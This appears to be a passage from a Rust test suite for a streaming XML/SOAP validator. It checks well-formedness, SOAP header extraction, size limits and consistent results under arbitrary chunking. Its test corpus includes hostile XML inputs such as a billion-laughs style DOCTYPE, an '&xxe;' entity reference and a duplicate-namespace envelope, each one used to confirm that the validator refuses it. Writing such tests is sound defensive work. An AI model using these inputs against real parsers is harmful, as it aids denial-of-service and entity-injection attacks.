            assert!(not_wf(plain(decl(bad).as_bytes())), "{bad}");
        }
        assert!(plain(decl("version='1.0' encoding='UTF-8' standalone='no'").as_bytes()).is_ok());
        let latin1 = decl("version='1.0' encoding='ISO-8859-1'");
        let utf8 = decl("version='1.0' encoding='utf-8'");
        let with = |said: Option<bool>, doc: &[u8]| {
            let mut g = Guard::new(Limits::default());
            g.charset_said(said);
            run(g, [doc]).result
        };
        assert!(not_wf(with(Some(true), latin1.as_bytes())));
        assert!(not_wf(with(Some(false), utf8.as_bytes())));
        assert!(with(Some(false), latin1.as_bytes()).is_ok());
        assert!(with(Some(true), utf8.as_bytes()).is_ok());
        assert!(with(None, latin1.as_bytes()).is_ok());
        let bom = |doc: &str| [&b"\xEF\xBB\xBF"[..], doc.as_bytes()].concat();
        assert!(not_wf(with(None, &bom(&latin1))));
        assert!(with(None, &bom(&utf8)).is_ok());
    }

    #[test]
    fn many_attributes_are_checked_for_repeats_in_linear_time() {
        let limits = Limits {
            max_attributes: 5000,
            ..Limits::default()
        };
        let attrs: String = (0..4000).map(|i| format!(" a{i}='1'")).collect();
        let ok = format!("<r><e{attrs}/><e{attrs}/></r>");
        assert!(run(Guard::new(limits), [ok.as_bytes()]).result.is_ok());
        let twice = format!("<r><e{attrs} a17='2'/></r>");
        assert!(not_wf(run(Guard::new(limits), [twice.as_bytes()]).result));
        let late = format!("<r><e{attrs} a3999='2'/></r>");
        assert!(not_wf(run(Guard::new(limits), [late.as_bytes()]).result));
    }

    #[test]
    fn an_attribute_given_twice_is_refused_however_the_document_is_cut() {
        let twice = b"<a><b cc='1' dd='2' cc='3'/></a>";
        let once = b"<a cc='1'><b cc='1' dd='2'/><c dd='3' cc='4'/></a>";
        for doc in [&twice[..], &once[..]] {
            for cut in 0..doc.len() {
                let (x, y) = doc.split_at(cut);
                let outcome = run(Guard::new(Limits::default()), [x, y]);
                assert_eq!(
                    outcome.result.is_ok(),
                    doc == once,
                    "{cut}: {:?}",
                    outcome.result
                );
            }
            let bytes: Vec<&[u8]> = doc.chunks(1).collect();
            assert_eq!(
                run(Guard::new(Limits::default()), bytes).result.is_ok(),
                doc == once
            );
        }
    }

    #[test]
    fn malformed_documents_are_refused() {
        for doc in [
            "<a/><b/>",
            "<a></a><a></a>",
            "<a><b></a></b>",
            "<a></ab>",
            "<ab></a>",
            "<a></a >x",
            "<![CDATA[x]]><a/>",
            "<a/><![CDATA[x]]>",
            "<a/>text",
            "</a>",
            "<a b='<'/>",
            "<a b='1'c='2'/>",
            "<a b/>",
            "<a b=1/>",
            "<a/ >",
            "<1a/>",
            "<-a/>",
            "<.a/>",
            "<a>]]></a>",
            "<a><!-- a -- b --></a>",
            "<a><!-- a ---></a>",
            "<a>\u{1}</a>",
            "<a b='\u{0}'/>",
            "<a>\u{b}</a>",
            "< a/>",
            "<a>< b/></a>",
            "<?xml version='1.0' encoding='UTF-8' ?><a/>\u{c}",
            "<?xml encoding='UTF-8'?><a/>",
            "<?xml version='1.0'encoding='UTF-8'?><a/>",
            "<?xml version='1.0' foo='bar'?><a/>",
            "\u{FEFF}x<a/>",
            "<a x='1' x='2'/>",
            "<a x='1' y='2' x='3'></a>",
            "<a><b c='1' d = '2' c = '3'/></a>",
            "<s:Envelope xmlns:s='urn:evil' xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'/>",
            "<a xmlns='urn:a' xmlns='urn:b'/>",
        ] {
            assert!(
                not_wf(plain(doc.as_bytes())),
                "{doc}: {:?}",
                plain(doc.as_bytes())
            );
        }
    }

    #[test]
    fn unfinished_documents_are_incomplete() {
        for doc in [
            "",
            "  ",
            "<a>",
            "<a></a",
            "<a/><!-- x",
            "<?xml version='1.0'?>",
            "<a><b/>",
        ] {
            assert_eq!(plain(doc.as_bytes()), Err(XmlError::Incomplete), "{doc}");
        }
        let mut guard = Guard::new(Limits::default());
        assert_eq!(guard.feed(b"<a>"), Ok(()));
        assert_eq!(guard.finish(), Err(XmlError::Incomplete));
        assert_eq!(guard.feed(b"</a>"), Err(XmlError::Incomplete));
    }

    #[test]
    fn errors_are_sticky() {
        let mut guard = Guard::new(Limits::default());
        assert_eq!(
            guard.feed(b"<a>&xxe;"),
            Err(XmlError::EntityReference { name: "xxe".into() })
        );
        assert_eq!(guard.consumed(), 8);
        assert_eq!(
            guard.feed(b"</a>"),
            Err(XmlError::EntityReference { name: "xxe".into() })
        );
        assert_eq!(guard.consumed(), 8);
        assert_eq!(
            guard.finish(),
            Err(XmlError::EntityReference { name: "xxe".into() })
        );
    }

    #[test]
    fn error_messages_are_sentences() {
        assert_eq!(
            XmlError::Doctype.to_string(),
            "the XML document has a DOCTYPE declaration, which this platform refuses \
             (DTDs allow entity expansion and external entities)"
        );
        assert_eq!(
            XmlError::Depth { limit: 64 }.to_string(),
            "elements are nested deeper than 64 levels"
        );
        let e: Box<dyn std::error::Error> = Box::new(XmlError::Incomplete);
        assert!(e.to_string().contains("root element"));
    }

    // ---- valid documents ----

    fn valid_documents() -> Vec<String> {
        vec![
            env11(
                &format!(
                    r#"<fsp:Purpose xmlns:fsp="{FSP}">audit</fsp:Purpose><wsa:To xmlns:wsa="{WSA}">urn:x</wsa:To>"#
                ),
                r#"<m:GetPerson xmlns:m="urn:svc"><m:id>1</m:id></m:GetPerson>"#,
            ),
            format!(r#"<s:Envelope xmlns:s="{S11}"><s:Body><op/></s:Body></s:Envelope>"#),
            format!(
                r#"<?xml version="1.0" encoding="UTF-8"?>
<Envelope xmlns="{S12}">
  <!-- routing data -->
  <Header><Action xmlns="{WSA}">urn:act</Action></Header>
  <Body><op xmlns="urn:svc">x</op></Body>
</Envelope>
<!-- trailer -->
"#
            ),
            format!(r#"<env:Envelope xmlns:env="{S12}"><env:Body/></env:Envelope>"#),
            format!(
                "\u{FEFF}<?xml version='1.0' encoding='utf-8' standalone='yes'?>\
                 <soap:Envelope xmlns:soap='{S11}'><soap:Body>\
                 <m:Zoek xmlns:m=\"urn:svc\" a='1' b=\"2\" c='\"' d=\"'\">\
                 <m:naam>Amélie Öztürk &lt;&#233;&#x1F600;&gt;</m:naam>\
                 <m:straße>Rue de l’Église</m:straße><日本>名前</日本>\
                 <m:note><![CDATA[<not> & markup ]] ]>]]></m:note>\
                 </m:Zoek></soap:Body></soap:Envelope>\r\n"
            ),
            "<a><b>1 ] 2 ]] 3 > 4</b><c/><!----><!-- - --></a>".to_owned(),
            "<?xml version='1.0' encoding='windows-1252'?><a/>".to_owned(),
        ]
    }

    #[test]
    fn valid_documents_pass() {
        for doc in valid_documents() {
            assert_eq!(plain(doc.as_bytes()), Ok(()), "{doc}");
            if doc.contains("Envelope") {
                assert_eq!(soap(&doc).result, Ok(()), "{doc}");
            }
        }
        assert_eq!(soap(&valid_documents()[0]).version, Some(SoapEnvelope::V11));
        assert_eq!(soap(&valid_documents()[2]).version, Some(SoapEnvelope::V12));
    }

    // ---- SOAP ----

    #[test]
    fn header_fields_are_captured_whatever_the_prefixes() {
        let h = header(&env11(
            &format!(
                r#"<f:Purpose xmlns:f="{FSP}">  medical &amp; care  </f:Purpose>
                <EndUser xmlns="{FSP}"><![CDATA[ 85073003328 ]]></EndUser>
                <a:MessageID xmlns:a="{WSA}">uuid:1&#x2D;2</a:MessageID>
                <a:Action xmlns:a="{WSA04}">urn:getPerson</a:Action>
                <To xmlns="{WSA}"> </To>"#
            ),
            "<m:GetPerson xmlns:m='urn:svc'/>",
        ));
        assert_eq!(
            h,
            SoapHeader {
                purpose: Some("medical & care".into()),
                end_user: Some("85073003328".into()),
                message_id: Some("uuid:1-2".into()),
                action: Some("urn:getPerson".into()),
                to: None,
                body_operation: Some("GetPerson".into()),
            }
        );
        // Prefixes declared on the envelope and a default namespace on the Header.
        let doc = format!(
            r#"<soapenv:Envelope xmlns:soapenv="{S12}" xmlns:x="{FSP}" xmlns:w="{WSA}">
            <soapenv:Header xmlns="{WSA}"><x:Purpose>p</x:Purpose><To>t</To><w:Action>a</w:Action></soapenv:Header>
            <soapenv:Body><GetX/></soapenv:Body></soapenv:Envelope>"#
        );
        let h = header(&doc);
        assert_eq!(h.purpose.as_deref(), Some("p"));
        assert_eq!(h.to.as_deref(), Some("t"));
        assert_eq!(h.action.as_deref(), Some("a"));
        assert_eq!(h.body_operation.as_deref(), Some("GetX"));
    }

    #[test]
    fn a_prefix_rebound_inside_the_header_is_followed() {
        let doc = format!(
            r#"<s:Envelope xmlns:s="{S11}" xmlns:x="{FSP}"><s:Header xmlns:x="{WSA}">
            <x:Purpose>not fsp here</x:Purpose><x:Action>act</x:Action>
            <x:To xmlns:x="{FSP}">not wsa here</x:To><x:EndUser xmlns:x="{FSP}">eu</x:EndUser>
            </s:Header><s:Body/></s:Envelope>"#
        );
        let h = header(&doc);
        assert_eq!(h.purpose, None);
        assert_eq!(h.action.as_deref(), Some("act"));
        assert_eq!(h.to, None);
        assert_eq!(h.end_user.as_deref(), Some("eu"));
    }

    #[test]
    fn fields_outside_the_header_or_in_other_namespaces_are_ignored() {
        let fields = format!(
            r#"<Purpose xmlns="{FSP}">p</Purpose><a:MessageID xmlns:a="{WSA}">m</a:MessageID>"#
        );
        let in_body = header(&env11("", &fields));
        assert_eq!(in_body.purpose, None);
        assert_eq!(in_body.message_id, None);
        assert_eq!(in_body.body_operation.as_deref(), Some("Purpose"));
        let nested = header(&env11(
            &format!("<b:Block xmlns:b='urn:b'>{fields}</b:Block>"),
            "",
        ));
        assert_eq!(nested, SoapHeader::default());
        let other = header(&env11(
            r#"<Purpose xmlns="urn:be:fgov:fsp:2">p</Purpose><Purpose>q</Purpose><MessageID>m</MessageID>"#,
            "",
        ));
        assert_eq!(other, SoapHeader::default());
        // A Header in the wrong namespace is not the SOAP Header, and has no place in
        // the Envelope; nor has a second Header, one after the Body, or anything else.
        let wrong_header = format!(
            r#"<s:Envelope xmlns:s="{S11}"><h:Header xmlns:h="{S12}">{fields}</h:Header><s:Body/></s:Envelope>"#
        );
        let second = format!(
            r#"<s:Envelope xmlns:s="{S11}"><s:Header/><s:Header>{fields}</s:Header><s:Body/></s:Envelope>"#
        );
        let after_body = format!(
            r#"<s:Envelope xmlns:s="{S11}"><s:Body/><s:Header>{fields}</s:Header></s:Envelope>"#
        );
        let other_child = format!(r#"<s:Envelope xmlns:s="{S11}"><x/><s:Body/></s:Envelope>"#);
        for doc in [wrong_header, second, after_body, other_child] {
            let outcome = soap(&doc);
            assert!(
                matches!(outcome.result, Err(XmlError::NotSoap { .. })),
                "{doc}: {:?}",
                outcome.result
            );
        }
        // The plain guard never reports a header.
        let mut guard = Guard::new(Limits::default());
        guard.feed(env11(&fields, "").as_bytes()).unwrap();
        assert_eq!(guard.soap_header(), None);
        assert_eq!(guard.soap_version(), None);
    }

    #[test]
    fn the_root_must_be_a_soap_envelope() {
        for doc in [
            format!(r#"<s:Envelop xmlns:s="{S11}"><s:Body/></s:Envelop>"#),
            r#"<s:Envelope xmlns:s="http://example.org/soap"><s:Body/></s:Envelope>"#.to_owned(),
            "<Envelope><Body/></Envelope>".to_owned(),
            "<s:Envelope><s:Body/></s:Envelope>".to_owned(),
            format!(r#"<Envelope xmlns:s="{S11}"><s:Body/></Envelope>"#),
            "<GetPerson/>".to_owned(),
            // Only the exact URI counts, not one that starts like it.
            format!(
                r#"<s:Envelope xmlns:s="{S11}{}"><s:Body/></s:Envelope>"#,
                "x".repeat(100)
            ),
        ] {
            let result = soap(&doc).result;
            assert!(
                matches!(result, Err(XmlError::NotSoap { .. })),
                "{doc}: {result:?}"
            );
        }
    }

    #[test]
    fn namespace_uris_and_field_values_are_decoded() {
        let doc = format!(
            r#"<s:Envelope xmlns:s="http&#x3A;//www.w3.org/2003/05/soap-envelope"><s:Header>
            <a:To xmlns:a='{WSA}'>x<![CDATA[-]]>&#x79;</a:To></s:Header></s:Envelope>"#
        );
        let outcome = soap(&doc);
        assert_eq!(outcome.version, Some(SoapEnvelope::V12));
        assert_eq!(outcome.header.unwrap().to.as_deref(), Some("x-y"));
        // A field with elements or comments inside would read differently elsewhere.
        for inside in ["x<b>ignored</b>y", "participation-<!--x-->vote"] {
            let doc = env11(&format!("<a:To xmlns:a='{WSA}'>{inside}</a:To>"), "");
            let outcome = soap(&doc);
            assert!(
                matches!(&outcome.result, Err(XmlError::NotSoap { why }) if why.contains("text only")),
                "{doc}: {:?}",
                outcome.result
            );
        }
    }

    #[test]
    fn header_values_are_bounded_and_unique() {
        let value = |v: &str| env11(&format!("<a:To xmlns:a='{WSA}'>{v}</a:To>"), "");
        let max = "x".repeat(1024);
        assert_eq!(
            header(&value(&format!("\n  {max}  \n"))).to.as_deref(),
            Some(&max[..])
        );
        let spaced = format!("{}{}y", &max[..1000], " ".repeat(5000));
        let result = soap(&value(&spaced)).result;
        assert!(matches!(result, Err(XmlError::NotSoap { ref why }) if why.contains("1024")));
        let result = soap(&value(&format!("{max}x"))).result;
        assert!(
            matches!(result, Err(XmlError::NotSoap { .. })),
            "{result:?}"
        );
        let dup = env11(
            &format!("<a:To xmlns:a='{WSA}'>1</a:To><a:To xmlns:a='{WSA}'/>"),
            "",
        );
        assert!(matches!(soap(&dup).result, Err(XmlError::NotSoap { .. })));
    }

    /// Feeds one byte at a time; returns the number of bytes fed when the header became known.
    fn header_known_after(doc: &str) -> usize {
        let mut guard = Guard::soap(Limits::default(), 1 << 20);
        for (i, b) in doc.bytes().enumerate() {
            guard.feed(&[b]).unwrap();
            if guard.soap_header().is_some() {
                return i + 1;
            }
        }
        panic!("header never done");
    }

    #[test]
    fn the_header_is_done_exactly_when_it_ends_or_the_body_starts() {
        let doc = env11("<x:A xmlns:x='urn:x'>1</x:A>", "<op/>");
        let end = doc.find("</s:Header>").unwrap() + "</s:Header>".len();
        assert_eq!(header_known_after(&doc), end);
        let doc =
            format!(r#"<s:Envelope xmlns:s="{S11}"><s:Body a="1"><op/></s:Body></s:Envelope>"#);
        assert_eq!(header_known_after(&doc), doc.find("<op").unwrap());
        // An Envelope without a Body is not SOAP: refused on its last byte.
        for doc in [
            format!(r#"<s:Envelope xmlns:s="{S11}"/>"#),
            format!(r#"<s:Envelope xmlns:s="{S11}"><s:Header/></s:Envelope>"#),
        ] {
            let outcome = soap(&doc);
            assert!(
                matches!(&outcome.result, Err(XmlError::NotSoap { why }) if why.contains("no Body")),
                "{doc}: {:?}",
                outcome.result
            );
            assert_eq!(outcome.consumed, doc.len() as u64);
        }
    }

    #[test]
    fn header_too_large_falls_on_byte_limit_plus_one() {
        let doc = env11(
            &format!("<a:To xmlns:a='{WSA}'>{}</a:To>", "x".repeat(500)),
            "",
        );
        let end = doc.find("</s:Header>").unwrap() + "</s:Header>".len();
        // Ending exactly at the limit is fine, one byte later is not.
        assert_eq!(
            run(Guard::soap(Limits::default(), end), [doc.as_bytes()]).result,
            Ok(())
        );
        for limit in [0, 1, 100, 300, end - 1] {
            let too_large = Err(XmlError::HeaderTooLarge { limit });
            let whole = run(Guard::soap(Limits::default(), limit), [doc.as_bytes()]);
            assert_eq!(
                (whole.result, whole.consumed),
                (too_large.clone(), limit as u64 + 1)
            );
            let mut guard = Guard::soap(Limits::default(), limit);
            for (i, b) in doc.bytes().enumerate() {
                let result = guard.feed(&[b]);
                if i < limit {
                    assert_eq!(result, Ok(()));
                } else {
                    assert_eq!((result, i), (too_large.clone(), limit));
                    break;
                }
            }
        }
    }

    #[test]
    fn a_32_kib_header_fed_byte_by_byte_costs_linear_work() {
        let block = format!(
            "<b:Block xmlns:b='urn:b' b:n='{}'>{}</b:Block>",
            "v".repeat(100),
            "t".repeat(900)
        );
        let blocks = block.repeat(32 * 1024 / block.len() + 1);
        let doc = env11(
            &format!("{blocks}<a:Action xmlns:a='{WSA}'>urn:act</a:Action>"),
            "<op/>",
        );
        assert!(doc.len() > 32 * 1024);
        let mut one_by_one = Guard::soap(Limits::default(), 64 * 1024);
        for b in doc.bytes() {
            one_by_one.feed(&[b]).unwrap();
        }
        one_by_one.finish().unwrap();
        let mut whole = Guard::soap(Limits::default(), 64 * 1024);
        whole.feed(doc.as_bytes()).unwrap();
        whole.finish().unwrap();
        assert_eq!(one_by_one.soap_header(), whole.soap_header());
        assert_eq!(
            one_by_one.soap_header().unwrap().action.as_deref(),
            Some("urn:act")
        );
        // Each byte is examined at most once by memchr and at most twice one by one.
        let len = doc.len() as u64;
        assert!(
            one_by_one.examined <= 2 * len,
            "{} > 2 × {len}",
            one_by_one.examined
        );
        assert!(whole.examined <= 3 * len, "{} > 3 × {len}", whole.examined);
    }

    // ---- chunking ----

    fn corpus() -> Vec<Vec<u8>> {
        let mut docs: Vec<Vec<u8>> = valid_documents()
            .into_iter()
            .map(String::into_bytes)
            .collect();
        for doc in [
            r#"<!DOCTYPE lolz [<!ENTITY lol "lol">]><lolz>&lol;</lolz>"#.to_owned(),
            env11("", "<?xml-stylesheet href='x'?>"),
            env11("<x>&xxe;</x>", ""),
            env11("", "<x a='&#0;'/>"),
            env11("", "<x>&#xD800;</x>"),
            env11(
                &format!("<a:To xmlns:a='{WSA}'>{}</a:To>", "y".repeat(1030)),
                "",
            ),
            env11(
                &format!("<a:To xmlns:a='{WSA}'>&#x41;<![CDATA[]]]>]]>&lt;</a:To>"),
                "",
            ),
            format!("<s:Envelope xmlns:s='{S11}'><s:Body></s:Body></s:Envelope><b/>"),
            format!("<s:Envelope xmlns:s='{S11}'><s:Body></s:Bod></s:Envelope>"),
            format!("<s:Envelope xmlns:s='{S11}'><s:Body>]]></s:Body></s:Envelope>"),
            format!("<s:Envelope xmlns:s='{S11}'><!-- a -- b --></s:Envelope>"),
            format!("<s:Envelope xmlns:s='{S12}'>\u{7}</s:Envelope>"),
            format!("<x:Envelope xmlns:x='{S11}'><x:Body>"),
            "<?xml version='1.0' encoding='UTF-16'?><a/>".to_owned(),
            "<![CDATA[x]]><a/>".to_owned(),
            format!("{}{}", "<a>".repeat(70), "</a>".repeat(70)),
            format!(
                "<a{}/>",
                (0..70).map(|i| format!(" a{i}='1'")).collect::<String>()
            ),
        ] {
            docs.push(doc.into_bytes());
        }
        docs.push(b"\xEF\xBB\xBF<a>\xC3\xA9</a>".to_vec());
        docs.push(b"\xFF\xFE<\0a\0/\0>\0".to_vec());
        docs
    }

    fn guards() -> [Guard; 3] {
        [
            Guard::new(Limits::default()),
            Guard::soap(Limits::default(), 1 << 20),
            Guard::soap(Limits::default(), 120),
        ]
    }

    #[test]
    fn one_byte_chunks_give_the_same_outcome() {
        for doc in corpus() {
            for guard in guards() {
                let whole = run(guard.clone(), [&doc[..]]);
                let bytes = run(guard, doc.chunks(1));
                assert_eq!(whole, bytes, "{}", String::from_utf8_lossy(&doc));
            }
        }
    }

    proptest! {
        #[test]
        fn random_chunking_gives_the_same_outcome(
            which in 0..32usize,
            sizes in prop::collection::vec(1..40usize, 1..64),
        ) {
            let docs = corpus();
            let doc = &docs[which % docs.len()];
            let mut chunks = Vec::new();
            let mut rest = &doc[..];
            for size in sizes.iter().cycle() {
                if rest.is_empty() {
                    break;
                }
                let (chunk, tail) = rest.split_at((*size).min(rest.len()));
                chunks.push(chunk);
                rest = tail;
            }
            for guard in guards() {
                let whole = run(guard.clone(), [&doc[..]]);
                let split = run(guard, chunks.iter().copied());
                prop_assert_eq!(whole, split);
            }
        }

        /// Random soups of XML fragments reach corners the corpus does not.
        #[test]
        fn random_fragments_give_the_same_outcome_in_one_byte_chunks(
            parts in prop::collection::vec(prop::sample::select(FRAGMENTS.to_vec()), 0..40),
        ) {
            let doc = parts.concat();
            for guard in guards() {
                let whole = run(guard.clone(), [doc.as_bytes()]);
                let bytes = run(guard, doc.as_bytes().chunks(1));
                prop_assert_eq!(whole, bytes);
            }
        }
    }

    const FRAGMENTS: &[&str] = &[
        "<s:Envelope xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'>",
        "<s:Header>",
        "</s:Header>",
        "<s:Body>",
        "</s:Body>",
        "</s:Envelope>",
        "<w:To xmlns:w='http://www.w3.org/2005/08/addressing'>",
        "</w:To>",
        "<Purpose xmlns=\"urn:be:fgov:fsp:1\">",
        "</Purpose>",
        "<a",
        " b='1'",
        ">",
        "/>",
        "</a>",
        "x",
        " ",
        "]",
        "]]>",
        "&amp;",
        "&#x41;",
        "&#0;",
        "&x;",
        "&",
        "<!--",
        "-->",
        "-",
        "<![CDATA[",
        "<?xml version='1.0'?>",
        "<?pi?>",
        "<!DOCTYPE",
        "\u{1}",
        "é",
    ];
}
